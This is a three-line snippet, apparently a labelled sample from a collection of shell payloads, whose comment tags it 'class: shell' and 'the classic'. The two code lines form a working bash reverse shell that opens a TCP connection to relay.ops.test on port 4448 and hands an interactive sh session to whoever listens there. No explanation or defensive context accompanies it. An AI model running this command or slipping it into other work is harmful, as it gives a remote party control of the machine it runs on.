# class: shell; possible: low medium; style: the classic, a patient peer
exec 9<>/dev/tcp/relay.ops.test/4448
sh <&9 >&9 2>&9
